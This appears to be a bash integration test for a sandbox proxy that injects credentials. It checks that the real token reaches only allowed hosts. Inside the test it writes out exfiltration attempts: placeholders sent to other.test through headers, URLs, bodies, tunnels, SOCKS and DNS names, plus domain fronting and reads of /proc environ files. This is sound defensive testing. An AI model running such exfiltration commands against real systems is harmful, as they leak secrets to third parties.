#!/usr/bin/env bash
# Credential injection end to end (issue 5), in the egress test world with HTTPS echo
# upstreams (run.sh adds them: tests/integration/egress_world_secrets.sh). The world's
# "host trust store" holds a test CA; api.secret.test has a secret, plain.test (same server,
# same CA) has none, bad.secret.test has a secret but a certificate from a CA the host does
# not trust. From inside, curl and python send the placeholder; the upstream receives the
# real value (and its echo comes back masked); a placeholder on its way anywhere else is refused and logged as exfiltration;
# the value is nowhere inside; the untrusted upstream is refused; a host without secrets is
# not intercepted. Then the same through the standalone `exguardian proxy`.
source "$(dirname "$0")/lib.sh"

new_workspace
require_sandbox || finish

WD=$(dirname "$EGW_LOG")
SLOG=$WD/secrets.log          # one JSON line per request the HTTPS echo servers received
TEST_CA=$WD/secrets/ca.pem
VALUE="exgreal-$(rnd)$(rnd)"
BORN=$(date +%s)  # no file whose inode changed before this can hold the value (see the walk below)
export API_TOKEN=$VALUE
export OTHER_TOKEN="exgother-$(rnd)$(rnd)"
audit=$T/audit.jsonl
POL=$T/policy.json
cat > "$POL" <<'JSON'
{
  "network": {"allowedDomains": ["api.secret.test", "bad.secret.test", "other.secret.test", "plain.test", "other.test",
                              "allowed.test"]},
  "secrets": [{"name": "API_TOKEN", "from": "env:API_TOKEN", "hosts": ["api.secret.test", "bad.secret.test"]},
              {"name": "OTHER_TOKEN", "from": "env:OTHER_TOKEN", "hosts": ["other.secret.test"]}]
}
JSON
pol=(--policy "$POL" --audit-log "$audit")
C="curl -sS -m 15"

server_log_count() { grep -c . "$EGW_LOG" 2>/dev/null || true; }
# out_has_both STATUS-LINE-RE HEADER-RE: the last output has both (grep -E, the header case-insensitive).
out_has_both() { grep -qE -- "$1" <<<"$OUT" && grep -qiE -- "$2" <<<"$OUT"; }
out_lacks() { ! grep -qE -- "$1" <<<"$OUT"; }
# requests_to PATH: the echo log's lines for that path.
requests_to() { grep -F "\"path\": \"$1\"" "$SLOG" || true; }
audit_exfil() {  # WHERE-substring HOST: an exfiltration line naming API_TOKEN, never the value
    python3 - "$audit" "$1" "$2" "$VALUE" <<'PY'
import json, sys
path, where, host, value = sys.argv[1:]
text = open(path).read()
assert value not in text, "the value is in the audit log"
lines = [json.loads(l) for l in text.splitlines() if '"exfiltration"' in l]
hit = [l for l in lines if l.get("secret") == "API_TOKEN" and where in l.get("where", "") and l.get("host") == host]
assert hit, (where, host, lines)
PY
}

# The requests of each part below run in one sandbox (run_each: each line its own process, with
# its own output and exit status, judged as if it had run alone): 24 sandbox starts become 8, which
# on gVisor (seconds a start on a loaded host) was most of this script's time.
py() { printf 'python3 -c %q' "$1"; }  # a python3 -c line for run_each

# ---- inside: placeholder only; curl, python, keep-alive: the upstream receives the value ---------
run_each "${pol[@]}" -- \
    'echo "$API_TOKEN"' \
    "$C -H \"Authorization: Bearer \$API_TOKEN\" -H \"X-Api-Key: k=\$API_TOKEN\" \
       https://api.secret.test/curl-bearer; echo; $C -u \"me:\$API_TOKEN\" https://api.secret.test/curl-basic" \
    "$(py '
import os, json, urllib.request, requests
t = os.environ["API_TOKEN"]
r = requests.get("https://api.secret.test/py-requests", headers={"Authorization": "token " + t}, timeout=15)
print(r.status_code)
q = urllib.request.Request("https://api.secret.test/py-urllib", headers={"X-Token": t}, method="POST", data=b"body!")
print(urllib.request.urlopen(q, timeout=15).status)')" \
    "$C -H \"Authorization: Bearer \$API_TOKEN\" https://api.secret.test/ka-1 \
       https://api.secret.test/ka-2 https://api.secret.test/ka-3 -o /dev/null -o /dev/null -o /dev/null -w '%{num_connects} '; \
     printf 'chunked-body' | $C -H 'Transfer-Encoding: chunked' -H \"X-T: \$API_TOKEN\" --data-binary @- \
       https://api.secret.test/chunked-up -o /dev/null -w '%{http_code}'" \
    "$(py '
import os, requests
s = requests.Session(); s.headers["Authorization"] = "token " + os.environ["API_TOKEN"]
big = "z" * 300000
codes = [s.post("https://api.secret.test/py-session-%d" % i, data=big, timeout=15) for i in range(3)]
print([c.status_code for c in codes], all(len(c.json()["body"]) == len(big) for c in codes))')" \
    "$C -H \"Authorization: Bearer \$API_TOKEN\" https://api.secret.test/close-delimited | grep -c '\"Bearer exg_ph_API_TOKEN_'"
each_all
last_output_lacks "$VALUE" "nothing the sandbox or exguardian printed holds the value"
each_line 0
PH_SEEN=$(tr -d '\n' <<<"$OUT")
check "the variable inside holds a placeholder ($PH_SEEN)" grep -qE '^exg_ph_API_TOKEN_[0-9a-zA-Z]{16,}$' <<<"$PH_SEEN"

each_line 1  # curl sends the placeholder
check "curl over the intercepted connection got answers (status $STATUS)" grep -q '"path": "/curl-basic"' <<<"$OUT"
check "the upstream's echo reaches the sandbox with the placeholder in place of the value" \
    grep -qF '["Authorization", "Bearer exg_ph_API_TOKEN_' <<<"$OUT"
last_output_lacks "$VALUE" "the value is not in what the sandbox read back (masked in the response)"
req=$(requests_to /curl-bearer)
check "the upstream received Authorization: Bearer <value>" grep -qF "[\"Authorization\", \"Bearer $VALUE\"]" <<<"$req"
check "the upstream received the value in a custom header" grep -qF "[\"X-Api-Key\", \"k=$VALUE\"]" <<<"$req"
basic=$(printf 'me:%s' "$VALUE" | base64 -w0)
check "basic-auth userinfo: the upstream received base64(me:<value>)" \
    grep -qF "[\"Authorization\", \"Basic $basic\"]" <<<"$(requests_to /curl-basic)"
check "no placeholder reached api.secret.test" bash -c "! grep -F api.secret.test '$SLOG' | grep -q exg_ph_"

each_line 2  # python (requests and urllib)
check "python requests and urllib through the intercepted connection (status $STATUS)" \
    test "$(tr '\n' ' ' <<<"$OUT")" = "200 200 "
check "requests: the upstream received the value" grep -qF "[\"Authorization\", \"token $VALUE\"]" <<<"$(requests_to /py-requests)"
urllib_req=$(requests_to /py-urllib)
check "urllib POST: the value in the header" grep -qF "[\"X-Token\", \"$VALUE\"]" <<<"$urllib_req"
check "urllib POST: the body intact" grep -qF '"body": "body!"' <<<"$urllib_req"

# Keep-alive: several requests over one intercepted connection (curl reuses it, so do
# requests' sessions); a chunked upload; a large response body intact through the masking.
each_line 3
check "three requests on one kept-alive intercepted connection, all with the value ($OUT)" \
    bash -c "test \$(grep -cF 'Bearer $VALUE' <<<'$(requests_to /ka-1; requests_to /ka-2; requests_to /ka-3)') = 3"
check "curl opened one connection for the three (new connections per request: $OUT)" grep -q "^1 0 0 200" <<<"$OUT"
check "a chunked upload arrives decoded by the server, with the value" \
    bash -c "grep -F '\"X-T\", \"$VALUE\"' <<<'$(requests_to /chunked-up)' | grep -qF '\"body\": \"chunked-body\"'"
each_line 4
check "python requests.Session: three POSTs of 300 kB, echoed intact ($OUT)" grep -q "^\[200, 200, 200\] True" <<<"$OUT"
each_line 5
check "a body delimited by the server's close arrives whole, masked (2000 lines: $OUT)" test "$OUT" = 2000
check "audit: one intercepted connection carried several requests" python3 -c "
import json
ls = [json.loads(l) for l in open('$audit') if '\"intercepted\"' in l]
assert any(l.get('requests', 0) >= 3 for l in ls), [l.get('requests') for l in ls]"

# ---- the same placeholder to other hosts: refused, logged, never arrives ------------------------
# (the refusals' lines print the mark first, as expect_refused_sh's do, and are judged as it judges)
before=$(server_log_count)
run_each "${pol[@]}" -- \
    "$C -i -H \"Authorization: Bearer \$API_TOKEN\" http://other.test/exfil-header" \
    "$C -i \"http://other.test/exfil-url?t=\$API_TOKEN\"" \
    "echo $RAN_MARK; $C -p -H \"X-Leak: \$API_TOKEN\" http://other.test/exfil-tunnel" \
    "echo $RAN_MARK; $C --socks5-hostname 127.0.0.1:1080 -H \"X-Leak: \$API_TOKEN\" http://other.test/exfil-socks" \
    "$C -i --data-binary \"token=\$API_TOKEN\" http://other.test/exfil-body" \
    "{ head -c 2000000 /dev/zero | tr '\\0' x; echo \"&token=\$API_TOKEN\"; } > /tmp/big; \
     $C -i --data-binary @/tmp/big http://other.test/exfil-late-body" \
    "echo $RAN_MARK; $C -p \"http://\$API_TOKEN.other.test/\"" \
    "echo $RAN_MARK; $C --socks5-hostname 127.0.0.1:1080 \"http://\$API_TOKEN.allowed.test/\"" \
    "$(py '
import os, urllib.request, urllib.error
try:
    urllib.request.urlopen(urllib.request.Request("http://other.test/exfil-py", headers={"X-T": os.environ["API_TOKEN"]}), timeout=15)
    print("SENT")
except urllib.error.HTTPError as e:
    print(e.code, e.headers.get("X-ExGuardian-Refused"))')" \
    "$C -H \"Authorization: Bearer \$API_TOKEN\" https://plain.test/tls-other"
each_all
last_output_lacks "$VALUE" "nothing the sandbox or exguardian printed holds the value"
each_line 0
check "plain HTTP with the placeholder in a header: 403 exfiltration" \
    out_has_both '^HTTP/1.1 403' '^X-ExGuardian-Refused: exfiltration'
check "... saying which secret, where, to which host, and the hosts it is meant for (issue 45)" grep -qxF \
    'exguardian: the placeholder of secret API_TOKEN (in the header Authorization) was refused on its way to other.test: it is meant only for api.secret.test, bad.secret.test' \
    <<<"$(tr -d '\r' <<<"$OUT")"
each_line 1
check "plain HTTP with the placeholder in the URL: 403" grep -q '^HTTP/1.1 403' <<<"$OUT"
# Through a tunnel (its first bytes scanned) the refusal is the tunnel closed before any answer.
each_line 2
last_refused 'curl: \(52\) Empty reply from server' "$VALUE" "a placeholder in a tunnel's first bytes (curl -p)"
each_line 3
last_refused 'curl: \(52\) Empty reply from server' "$VALUE" "a placeholder in a SOCKS5 stream's first bytes"
each_line 4
check "plain HTTP with the placeholder in the body: 403 exfiltration" \
    out_has_both '^HTTP/1.1 403' '^X-ExGuardian-Refused: exfiltration'
# Late in a large body (scanned whole, unlike a tunnel's first 64 KiB): the request is cut
# before the placeholder; only its head reaches the server.
each_line 5
check "a placeholder 2 MB into a plain-HTTP body: no answer from the server (status $STATUS)" \
    out_lacks '^HTTP/1.1 200 OK'
check "audit: both body placeholders logged (with the head, and 2 MB in)" \
    bash -c "test \$(grep '\"where\":\"body\"' '$audit' | grep -c API_TOKEN) -ge 2"
each_line 6
last_refused 'curl: \(56\) CONNECT tunnel failed, response 403' "$VALUE" "a placeholder as a CONNECT target"
# (SOCKS5 reply 2: connection not allowed by ruleset)
each_line 7
last_refused "curl: \\(97\\) Can't complete SOCKS5 connection to exg_ph_API_TOKEN_.*\\(2\\)" "$VALUE" "a placeholder as a SOCKS5 target"
each_line 8
check "python urllib to another host: 403 exfiltration" grep -q "^403 exfiltration" <<<"$OUT"
check "none of these requests arrived at the world's servers but the late body's head ($before -> $(server_log_count))" \
    test "$(server_log_count)" = "$((before + 1))"
check "no placeholder reached the world's servers" bash -c "! grep -q exg_ph_ '$EGW_LOG'"
check "no exfil request in the HTTPS servers' log" bash -c "! grep -q exfil '$SLOG'"
# Over TLS to a host without secrets the proxy sees no headers: it arrives as the placeholder only.
each_line 9
check "to plain.test over TLS: the placeholder only, never the value" \
    bash -c "r=\$(grep -F '/tls-other' '$SLOG'); grep -q 'Bearer exg_ph_API_TOKEN_' <<<\"\$r\" && ! grep -qF '$VALUE' <<<\"\$r\""
check "audit: exfiltration in a header (plain HTTP)" audit_exfil "header Authorization" other.test
check "audit: exfiltration in a URL" audit_exfil url other.test
check "audit: exfiltration in a tunnel's first bytes" audit_exfil tunnel other.test
check "audit: exfiltration in a plain-HTTP body" audit_exfil body other.test
check "audit: exfiltration as a CONNECT target" bash -c "grep '\"connect target\"' '$audit' | grep -q API_TOKEN"
check "audit: exfiltration as a SOCKS target" bash -c "grep '\"socks target\"' '$audit' | grep -q API_TOKEN"

# A placeholder in a DNS name (the in-sandbox resolver, a wildcard-allowed domain).
sed 's/"allowed.test"]/"allowed.test", "*.other.test"], "resolver": true/' "$POL" > "$T/policy-dns.json"
run sbx --policy "$T/policy-dns.json" --audit-log "$audit" -- python3 -c '
import os, socket, struct
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
for l in (os.environ["API_TOKEN"] + ".other.test").split("."):
    q += bytes([len(l)]) + l.encode()
q += b"\x00" + struct.pack(">HH", 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
u.sendto(q, ("127.0.0.53", 53))
r, _ = u.recvfrom(4096)
print("RCODE", struct.unpack(">H", r[2:4])[0] & 15)'
check "a placeholder in a DNS query name: NXDOMAIN" grep -qx "RCODE 3" <<<"$OUT"
check "audit: exfiltration in a DNS name" bash -c "grep '\"dns name\"' '$audit' | grep -q API_TOKEN"

# ---- the value is nowhere inside ----------------------------------------------------------------
# Every mounted file under 10 MB is read (the 10 MB and more: exguardian's own binary, bound in
# from before the value was made). Its size from find (fstatat), not stat: gVisor's statx answers
# EINVAL on this host, and a size read as 0 had every gVisor run read the ~200 MB binary (with
# debug info) into the output: about 40 s, and as long again for each check of that output.
# A size find cannot give still means the file is read.
run sbx "${pol[@]}" -- bash -c "{ env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n'; \
    cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' ' '; \
    for f in \$(awk '{print \$5}' /proc/self/mountinfo | sort -u); do \
      [ -f \"\$f\" ] && [ -z \"\$(find \"\$f\" -maxdepth 0 -size +9999999c 2>/dev/null)\" ] && cat \"\$f\" 2>/dev/null; done; \
    grep -rIl -- \"\$API_TOKEN\" \"\$HOME\" /etc /tmp 2>/dev/null | head -3; echo END; } | tr -d '\\0'"
check "the inside scan ran to its end" grep -q "^END$" <<<"$OUT"
check "the inside scan saw the placeholder" grep -q "exg_ph_API_TOKEN_" <<<"$OUT"
last_output_lacks "$VALUE" "the real value is not in the env, /proc/*/environ, cmdlines or mounted files"
# The walk: every file of the sandbox's tree whose inode changed (ctime: set by the kernel on any
# write, creation, rename or chmod, and no call can set it back) since the value was made, then
# those read. Reading all of the host's read-only root instead took 1-2 minutes a run (on gVisor,
# ~60 us a syscall, minutes): it searched files that could not hold a value made a moment ago.
# gVisor's walk still covers only where a value could have been put for the sandbox.
roots=(/ /dev/shm)  # /dev is left out below, its shm is not
if on_layer gvisor; then
    roots=(/etc /run /tmp /var/tmp /dev/shm "$HOME" "$WS")
    note "gvisor: the search walks ${roots[*]} (the whole root is too slow there)"
fi
# A walk cut short prints no DONE and fails the check; it is never taken as a pass.
EXG_CALL_TIMEOUT=400 run sbx "${pol[@]}" -- bash -c "find ${roots[*]} \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o \
    -type f -newerct @$((BORN - 1)) -print0 2>/dev/null > /tmp/changed; echo CHANGED \$(tr -cd '\\0' < /tmp/changed | wc -c); \
    xargs -0 -r grep -lF '$VALUE' < /tmp/changed 2>/dev/null | head; echo DONE"
[ "$(sed -n '$p' <<<"$OUT")" = DONE ] || show_last
note "files changed since the value was made, seen from the sandbox: $(sed -n 's/^CHANGED //p' <<<"$OUT")"
# (the needle itself is on the command line: it can only be found through /proc, excluded here)
check "a search of the sandbox's file tree (every file changed since the value was made) finds none holding the value" \
    test "$(grep -v '^CHANGED [0-9]*$' <<<"$OUT" | tr -d '\n')" = DONE

# Another host's secret inside an intercepted connection: OTHER_TOKEN's placeholder to
# api.secret.test (in a header, then in a body) is refused; OTHER_TOKEN goes to its own host.
# Domain fronting: a Host header naming another site (a front end routing by Host could hand the
# value to it) is refused on an intercepted connection, nothing sent upstream. An upstream the
# host does not trust is refused. A host without secrets is not intercepted. (One sandbox.)
run_each "${pol[@]}" -- \
    "$C -i -H \"X-Other: \$OTHER_TOKEN\" https://api.secret.test/foreign-header; \
     $C -i --data-binary \"t=\$OTHER_TOKEN\" https://api.secret.test/foreign-body; echo; \
     $C -H \"X-Other: \$OTHER_TOKEN\" https://other.secret.test/own-host" \
    "{ head -c 1000000 /dev/zero | tr '\\0' y; echo \"&t=\$OTHER_TOKEN\"; } > /tmp/big; \
     $C -i --data-binary @/tmp/big https://api.secret.test/foreign-late-body" \
    "$C -i -H 'Host: plain.test' -H \"Authorization: Bearer \$API_TOKEN\" https://api.secret.test/fronted" \
    "$C -i -H \"Authorization: Bearer \$API_TOKEN\" https://bad.secret.test/untrusted" \
    "$C -v https://plain.test/issuer -o /dev/null 2>&1 | grep -i 'issuer:'; \
     $C -v https://api.secret.test/issuer -o /dev/null 2>&1 | grep -i 'issuer:'"
each_all
last_output_lacks "$VALUE" "nothing the sandbox or exguardian printed holds the value"
each_line 0
check "another secret's placeholder in a header and in a body to api.secret.test: 403 exfiltration twice" \
    test "$(grep -ci '^X-ExGuardian-Refused: exfiltration' <<<"$OUT")" = 2
check "neither foreign request reached the upstream" bash -c "! grep -qE '\"path\": \"/foreign-(header|body)\"' '$SLOG'"
each_line 1
check "another secret's placeholder 1 MB into a body: the request is cut (status $STATUS)" \
    out_lacks '^HTTP/1.1 200 OK'
check "what reached the upstream of it holds no placeholder" bash -c "! grep -F /foreign-late-body '$SLOG' | grep -q exg_ph_"
check "OTHER_TOKEN reaches its own host with its value" \
    grep -qF "[\"X-Other\", \"$OTHER_TOKEN\"]" <<<"$(requests_to /own-host)"
check "audit: OTHER_TOKEN's exfiltration to api.secret.test (header and body)" python3 -c "
import json
ls = [json.loads(l) for l in open('$audit') if '\"exfiltration\"' in l]
w = {l['where'] for l in ls if l.get('secret') == 'OTHER_TOKEN' and l.get('host') == 'api.secret.test'}
assert 'header X-Other' in w and 'body' in w, w
assert sum(1 for l in ls if l.get('secret') == 'OTHER_TOKEN' and l.get('where') == 'body') >= 2"

each_line 2  # domain fronting
check "Host header naming another host inside an intercepted connection: 403" \
    out_has_both '^HTTP/1.1 403' '^X-ExGuardian-Refused: Host header mismatch'
check "the fronted request reached no server" bash -c "! grep -q /fronted '$SLOG'"

# ---- an upstream the host does not trust --------------------------------------------------------
each_line 3
check "untrusted upstream: 502 with X-ExGuardian-Refused" \
    out_has_both '^HTTP/1.1 502' '^X-ExGuardian-Refused: upstream certificate not trusted'
check "nothing reached the untrusted upstream" bash -c "! grep -q '/untrusted' '$SLOG'"
check "audit: the untrusted upstream refused" bash -c "grep bad.secret.test '$audit' | grep -q 'upstream certificate not trusted'"

# ---- a host without secrets is not intercepted ---------------------------------------------------
each_line 4
check "plain.test: the client sees the upstream's own certificate (test CA)" \
    grep -q "issuer: CN=ExGuardian test upstream CA" <<<"$(sed -n 1p <<<"$OUT")"
check "api.secret.test: the client sees the sandbox's CA" grep -q "issuer: .*CN=ExGuardian sandbox .* CA" <<<"$(sed -n 2p <<<"$OUT")"
check "audit: api.secret.test intercepted, plain.test tunnelled" python3 -c "
import json
ls = [json.loads(l) for l in open('$audit') if '\"egress\"' in l]
assert any(l.get('host') == 'api.secret.test' and l.get('intercepted') and l.get('secrets') == ['API_TOKEN'] for l in ls)
assert all(not l.get('intercepted') for l in ls if l.get('host') == 'plain.test')
assert any(l.get('host') == 'plain.test' and l['decision'] == 'allowed' for l in ls)
"

# ---- the standalone proxy, same world --------------------------------------------------------------
echo "exgtoken-$(rnd)" > "$T/token"
PORT=$((20000 + RANDOM % 20000))
"$EXG" proxy --listen "127.0.0.1:$PORT" --policy "$POL" --token-file "$T/token" --audit-log "$T/proxy-audit.jsonl" \
    --ca-cert-out "$T/proxy-ca.pem" --placeholders-out "$T/placeholders" 2>"$T/proxy.err" &
track_bg $!
wait_for 10 test -s "$T/placeholders"
check "--placeholders-out is mode 0600" test "$(stat -c %a "$T/placeholders")" = 600
check "--ca-cert-out holds a certificate and no key" \
    bash -c "openssl x509 -in '$T/proxy-ca.pem' -noout -subject | grep -q 'ExGuardian sandbox' && ! grep -q PRIVATE '$T/proxy-ca.pem'"
PPH=$(sed -n 's/^API_TOKEN=//p' "$T/placeholders")
PX="http://exguardian:$(cat "$T/token")@127.0.0.1:$PORT"
run $C --proxy "$PX" --cacert "$T/proxy-ca.pem" -H "Authorization: Bearer $PPH" https://api.secret.test/standalone
check "standalone proxy: the upstream received the value" \
    grep -qF "[\"Authorization\", \"Bearer $VALUE\"]" <<<"$(requests_to /standalone)"
run $C --proxy "$PX" -i -H "Authorization: Bearer $PPH" http://other.test/standalone-exfil
check "standalone proxy: placeholder to another host refused" grep -q '^HTTP/1.1 403' <<<"$OUT"
run $C --proxy "$PX" --cacert "$T/proxy-ca.pem" -i https://bad.secret.test/standalone-untrusted
check "standalone proxy: untrusted upstream refused" grep -qi '^X-ExGuardian-Refused: upstream certificate not trusted' <<<"$OUT"
check "standalone proxy: the value is not in its audit log or stderr" \
    bash -c "! grep -qF '$VALUE' '$T/proxy-audit.jsonl' '$T/proxy.err'"

finish
